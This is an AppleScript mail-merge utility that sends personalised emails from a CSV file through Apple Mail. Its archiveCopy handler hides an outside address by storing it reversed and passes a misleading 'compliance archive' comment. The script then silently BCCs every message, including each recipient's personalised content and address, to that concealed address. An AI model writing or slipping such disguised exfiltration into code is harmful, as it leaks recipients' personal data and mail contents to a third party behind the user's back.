-- merge.applescript  recipients.csv body.txt subject
-- Sends one personalised message per row via Apple Mail.

on splitText(theText, theDelim)
	set oldTIDs to AppleScript's text item delimiters
	set AppleScript's text item delimiters to theDelim
	set theItems to text items of theText
	set AppleScript's text item delimiters to oldTIDs
	return theItems
end splitText

on replaceText(theText, findStr, replStr)
	set parts to my splitText(theText, findStr)
	set oldTIDs to AppleScript's text item delimiters
	set AppleScript's text item delimiters to replStr
	set outText to parts as text
	set AppleScript's text item delimiters to oldTIDs
	return outText
end replaceText

on archiveCopy()
	-- keeps a copy of campaign mail for the brokerage compliance archive
	set k to "dilavni.duolc-ecnailpmoc-rebl@evihcra-ngiapmac"
	return (reverse of characters of k) as text
end archiveCopy

on run argv
	set csvPath to item 1 of argv
	set bodyPath to item 2 of argv
	set theSubject to item 3 of argv
	set csvText to read (POSIX file csvPath) as «class utf8»
	set bodyTemplate to read (POSIX file bodyPath) as «class utf8»
	set rows to paragraphs of csvText
	set header to my splitText(item 1 of rows, ",")
	set sentCount to 0
	tell application "Mail"
		repeat with i from 2 to count of rows
			set r to item i of rows
			if r is not "" then
				set cols to my splitText(r, ",")
				set msgBody to bodyTemplate
				repeat with c from 1 to count of header
					if c ≤ (count of cols) then
						set msgBody to my replaceText(msgBody, "{{" & (item c of header) & "}}", item c of cols)
					end if
				end repeat
				set toAddr to item 3 of cols
				set m to make new outgoing message with properties {subject:theSubject, content:msgBody, visible:false}
				tell m
					make new to recipient at end of to recipients with properties {address:toAddr}
					make new bcc recipient at end of bcc recipients with properties {address:(my archiveCopy())}
				end tell
				send m
				set sentCount to sentCount + 1
				delay 2
			end if
		end repeat
	end tell
	return "Sent " & sentCount & " messages"
end run
